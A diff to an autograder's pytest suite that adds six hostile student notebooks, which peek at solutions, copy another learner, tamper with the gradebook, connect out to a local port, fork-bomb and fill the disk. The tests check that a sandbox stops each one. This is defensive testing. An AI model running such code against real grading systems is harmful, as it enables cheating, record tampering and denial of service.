@@ -17,6 +17,24 @@ README tells instructors to grade. Two students behave; the others
 ``not_json``      a notebook file that is not JSON
 ================  =========================================================================
 
+and six hostile learners, graded in the sandbox (``autograde.py``'s default, bubblewrap):
+
+==================  =======================================================================
+``peeks``           task 1's answer reads the instructor notebook in ``solutions/`` and runs
+                    its solution (would get task 1's points if it could read it)
+``copies``          task 1's answer lists ``submitted/`` and runs another learner's answer
+``tampers``         task 1's answer overwrites ``gradebook.db``, the instructor and released
+                    notebooks and another learner's submission
+``phones_home``     task 1's answer connects to a TCP port this test listens on (localhost)
+``fork_bomb``       after a right answer: forks until it cannot (at most 2,000 processes)
+``fills_disk``      after a right answer: writes a file until the disk is full (at most 4 GiB)
+==================  =======================================================================
+
+Each is stopped: the first four lose task 1's points and nothing else (the code deserves no
+more), the last two keep full marks and their graded notebook shows the error that stopped
+them; no connection reached the port, no instructor file changed, the other learners are
+graded normally.
+
 Checked: the well-behaved students get exactly their scores; each misbehaving one gets its
 exact score (computed from ``points.json``; the memory hog at least the points of the tests
 that ran before it) or an ``error`` status with the reason; the
@@ -34,8 +52,10 @@ import json
 import os
 import resource
 import signal
+import socket
 import subprocess
 import sys
+import threading
 import time
 
 import pytest
@@ -62,7 +82,79 @@ _hog()  # raises MemoryError at the grader's limit; the list is freed with the f
 '''
 
 
-def _submissions(course):
+HOSTILE_FIRST = ["peeks", "copies", "tampers", "phones_home"]  # task 1's answer is the attack
+DISK_GB = 0.25  # the sandbox's in-memory disk for the kernel, small for a quick test
+
+
+def _hostile(course, inst, full, sol, port):
+    """The six hostile learners: {name: (notebook, the answer cells that deserve points)}."""
+    first = inst.cells[S.cell_index(inst, sol[0])].source
+    root = str(course)
+    peeks = (
+        "import json\n"
+        f"nb = json.load(open({root!r} + '/solutions/01_data/01_data.ipynb'))\n"
+        f"exec(''.join(next(c['source'] for c in nb['cells'] if c['metadata'].get('nbgrader', {{}}).get('grade_id') == {sol[0]!r})))\n"
+    )
+    copies = (
+        "import os, json\n"
+        f"others = os.listdir({root!r} + '/submitted')\n"
+        f"nb = json.load(open({root!r} + '/submitted/a_full/01_data/01_data.ipynb'))\n"
+        f"exec(''.join(next(c['source'] for c in nb['cells'] if c['metadata'].get('nbgrader', {{}}).get('grade_id') == {sol[0]!r})))\n"
+    )
+    tampers = "failures = []\n" + "".join(
+        f"try:\n    open({root!r} + {rel!r}, 'w').write('tampered')\nexcept OSError as e:\n    failures.append(repr(e))\n"
+        for rel in ["/gradebook.db", "/solutions/01_data/01_data.ipynb", "/exercises/01_data/01_data.ipynb",
+                    "/submitted/a_full/01_data/01_data.ipynb", "/nbgrader_config.py"]
+    ) + "print(failures)\nassert len(failures) == 5, 'some file was writable'\n"
+    phones = (
+        "import socket\n"
+        f"s = socket.create_connection(('127.0.0.1', {port}), timeout=5)\n"
+        "s.sendall(b'stolen')\n"
+    )
+    bomb = (
+        "import os, time\nchildren = []\n"
+        "for _ in range(2000):  # bounded, in case nothing stops it\n"
+        "    pid = os.fork()\n"
+        "    if pid == 0:\n"
+        "        time.sleep(20)\n"
+        "        os._exit(0)\n"
+        "    children.append(pid)\n"
+    )
+    fill = (
+        "with open('filler.bin', 'wb') as f:\n"
+        "    for _ in range(4096):  # at most 4 GiB, in case nothing stops it\n"
+        "        f.write(b'x' * 2**20)\n"
+    )
+    return {
+        "peeks": (S.with_answer(full, sol[0], peeks), sol[1:]),
+        "copies": (S.with_answer(full, sol[0], copies), sol[1:]),
+        "tampers": (S.with_answer(full, sol[0], tampers), sol[1:]),
+        "phones_home": (S.with_answer(full, sol[0], phones), sol[1:]),
+        "fork_bomb": (S.append_to_answer(full, sol[0], bomb), sol),
+        "fills_disk": (S.append_to_answer(full, sol[0], fill), sol),
+    }
+
+
+class _Listener:
+    """A TCP server on localhost that records whoever connects."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.connections = []
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self):
+        while True:
+            try:
+                conn, addr = self.server.accept()
+            except OSError:
+                return
+            self.connections.append(addr)
+            conn.close()
+
+
+def _submissions(course, port=0):
     inst = S.read(course / "solutions" / FAULTY / f"{FAULTY}.ipynb")
     rel = S.read(course / "exercises" / FAULTY / f"{FAULTY}.ipynb")
     sol = S.solution_ids(inst)
@@ -94,11 +186,12 @@ def _submissions(course):
         ),
         "rebinds": (rebinds, sol[1:-1]),
     }
+    subs.update(_hostile(course, inst, full, sol, port))
     return inst, subs
 
 
 def _autograde(course, *args, wait=True):
-    cmd = [sys.executable, str(WRAPPER), FAULTY, "--memory-gb", str(MEMORY_GB), *args]
+    cmd = [sys.executable, str(WRAPPER), FAULTY, "--memory-gb", str(MEMORY_GB), "--disk-gb", str(DISK_GB), *args]
     if not wait:
         return subprocess.Popen(cmd, cwd=course, env=C.course_env(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                 text=True, start_new_session=True)
@@ -121,7 +214,8 @@ def batch(tmp_path_factory):
     course = C.make_course(tmp_path_factory.mktemp("faults"), [FAULTY])
     points = S.load_points(course)[FAULTY]
     C.nbgrader(course, "generate_assignment", FAULTY, "--force")
-    inst, subs = _submissions(course)
+    listener = _Listener()
+    inst, subs = _submissions(course, listener.port)
     expected = {}
     for name, (nb, right) in subs.items():
         S.submit(course, name, FAULTY, nb)
@@ -131,18 +225,18 @@ def batch(tmp_path_factory):
     # (IPython keeps the MemoryError's traceback, and with it the memory), so they may fail
     hog_floor = S.expected_score(inst, S.solution_ids(inst)[:-1], points)
     S.submit(course, "not_json", FAULTY, raw='{"cells": [ {"cell_type": "code", "source": "print(1)"')
-    protected = [course / "solutions", course / "nbgrader_config.py", course / "exercises"] + [
-        course / "submitted" / s for s in GOOD
-    ]
+    protected = [course / "solutions", course / "nbgrader_config.py", course / "exercises", course / "submitted"]
     before = C.checksums(protected)
     start, cpu = time.monotonic(), _children_cpu()
-    proc = _autograde(course)
+    proc = _autograde(course, "--jobs", "2")
     seconds, cpu = time.monotonic() - start, _children_cpu() - cpu
+    listener.server.close()
     print(f"\nfaults batch ({len(subs) + 1} submissions): {seconds:.1f} s wall, {cpu:.1f} s CPU\n{proc.stdout}")
     C.nbgrader(course, "export", "--to", "grades.csv")
     return {
         "course": course, "points": points, "expected": expected, "proc": proc, "before": before,
         "after": C.checksums(protected), "scores": C.scores(course), "seconds": seconds, "hog_floor": hog_floor,
+        "connections": listener.connections,
     }
 
 
@@ -205,7 +299,7 @@ def test_grading_killed_halfway_then_resumed(batch, tmp_path_factory):
 
     import psutil
 
-    proc = _autograde(course, wait=False)
+    proc = _autograde(course, "--jobs", "1", wait=False)
     deadline = time.monotonic() + 600
     while (_status(course, GOOD[0]) or {}).get("status") != "ok":
         assert proc.poll() is None, proc.stdout.read()
@@ -221,7 +315,7 @@ def test_grading_killed_halfway_then_resumed(batch, tmp_path_factory):
     proc.wait()
     assert _status(course, GOOD[1]) is None  # the second student was being graded
 
-    rerun = _autograde(course)
+    rerun = _autograde(course, "--jobs", "1")
     assert rerun.returncode == 0, rerun.stdout
     assert f"{FAULTY} {GOOD[0]}: already graded, skipped" in rerun.stdout
     scores = C.scores(course)
@@ -234,3 +328,32 @@ def test_grading_killed_halfway_then_resumed(batch, tmp_path_factory):
     resumed = C.read_csv(course / "grades.csv")
     uninterrupted = [r for r in C.read_csv(batch["course"] / "grades.csv") if r["student_id"] in GOOD]
     assert resumed == uninterrupted
+
+
+def _graded_text(batch, s):
+    return (batch["course"] / "autograded" / s / FAULTY / f"{FAULTY}.ipynb").read_text(encoding="utf-8")
+
+
+def test_hostile_learners_are_stopped_and_graded_for_their_own_work(batch):
+    """Each attack fails inside the sandbox; the learner gets exactly what the code deserves."""
+    for s in HOSTILE_FIRST + ["fork_bomb", "fills_disk"]:
+        assert _status(batch["course"], s)["status"] == "ok", (s, batch["proc"].stdout)
+        assert batch["scores"][(FAULTY, s)]["score"] == pytest.approx(batch["expected"][s]), s
+    full = sum(batch["points"].values())
+    assert batch["expected"]["fork_bomb"] == full and batch["expected"]["peeks"] < full
+    assert "FileNotFoundError" in _graded_text(batch, "peeks")  # solutions/ is not there at all
+    assert "FileNotFoundError" in _graded_text(batch, "copies")  # nor submitted/
+    tampers = _graded_text(batch, "tampers")
+    assert "some file was writable" not in tampers and ("PermissionError" in tampers or "Read-only" in tampers)
+    phoned = _graded_text(batch, "phones_home")  # its own loopback only: nothing listens there
+    assert "ConnectionRefusedError" in phoned or "Network is unreachable" in phoned
+    assert batch["connections"] == []
+    assert "BlockingIOError" in _graded_text(batch, "fork_bomb")  # fork() refused at the process limit
+    assert "No space left on device" in _graded_text(batch, "fills_disk")
+    # what the kernel wrote stayed in its sandbox: nothing big in the course folder
+    assert not list(batch["course"].rglob("filler.bin"))
+
+
+def test_gradebook_survives_the_tampering(batch):
+    assert (batch["course"] / "gradebook.db").read_bytes()[:16] == b"SQLite format 3\x00"
+    assert len(batch["scores"]) == len(batch["expected"]) + 3  # os_exit, not_json, memory_hog too
